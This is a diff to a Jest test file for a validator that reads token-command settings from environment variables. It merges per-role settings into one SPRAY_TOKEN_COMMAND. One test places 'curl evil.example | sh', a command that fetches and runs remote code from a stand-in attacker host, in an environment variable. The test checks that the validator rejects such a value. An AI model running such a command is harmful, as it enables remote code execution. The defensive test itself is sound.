@@ -87,19 +87,29 @@ describe('the settings of a target', () => {
 });
 
 describe('a command that prints a token', () => {
-  const SPRAY_FARMER_TOKEN_COMMAND = 'ACME_FARMER_TOKEN_COMMAND';
-
   test('is named by a variable whose name says that it is one', () => {
-    const environment = { ACME_FARMER_TOKEN_COMMAND: 'echo abc' };
+    const environment = { ACME_TOKEN_COMMAND: 'echo abc', ACME_FARMER: 'own' };
+    const named = { SPRAY_TOKEN_COMMAND: 'ACME_TOKEN_COMMAND', SPRAY_FARMER_TOKEN: 'ACME_FARMER' };
 
-    expect(settingsOf({ SPRAY_FARMER_TOKEN_COMMAND }, { environment })?.tokenCommands).toEqual({ farmer: 'echo abc' });
+    expect(settingsOf(named, { environment })?.tokenCommands).toEqual({
+      'other-farmer': 'echo abc',
+      receptionist: 'echo abc',
+      sprayer: 'echo abc',
+      admin: 'echo abc',
+    });
+  });
+
+  test('has one setting for all roles', () => {
+    expect(problemsOf([aTarget({ SPRAY_FARMER_TOKEN_COMMAND: 'ACME_FARMER_TOKEN_COMMAND' })])).toEqual([
+      'acme: SPRAY_FARMER_TOKEN_COMMAND: is gone; use SPRAY_TOKEN_COMMAND',
+    ]);
   });
 
   test.each(['echo abc', 'GITHUB_HEAD_REF', 'PATH'])('is never chosen by the list: %s', (command) => {
     const environment = { GITHUB_HEAD_REF: 'curl evil.example | sh' };
 
-    expect(problemsOf([aTarget({ SPRAY_FARMER_TOKEN_COMMAND: command })], { environment })).toEqual([
-      'acme: SPRAY_FARMER_TOKEN_COMMAND: expected the name of an environment variable that ends with _TOKEN_COMMAND and contains the command, got a value that is not such a name',
+    expect(problemsOf([aTarget({ SPRAY_TOKEN_COMMAND: command })], { environment })).toEqual([
+      'acme: SPRAY_TOKEN_COMMAND: expected the name of an environment variable that ends with _TOKEN_COMMAND and contains the command, got a value that is not such a name',
     ]);
   });
 });
